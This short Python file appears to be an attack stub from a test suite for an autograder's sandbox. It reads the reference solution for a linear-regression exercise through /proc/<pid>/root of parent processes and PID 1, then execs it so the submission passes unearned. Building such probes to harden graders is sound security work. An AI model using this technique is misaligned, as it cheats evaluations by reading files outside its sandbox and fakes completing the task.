"""A stub submission that reads the solution through /proc/<pid>/root of the processes above it."""
MODULE = "ex2_linear_regression"
CLASS = "proc"
MODES = ("grade", "batch", "gradescope")
BASE = "stubs"
LEAKS = ("BEGIN SOLUTION",)


def _steal():
    pids = [pid for pid, _ in _atk_ancestors()] + [1]
    for pid in pids:
        data = _atk_read(f"/proc/{pid}/root{_ATTACK['solutions']}/ex2_linear_regression.py")
        if data:
            exec(compile(data, "stolen", "exec"), globals())
            return pid
    return 0


_STOLEN = _steal()
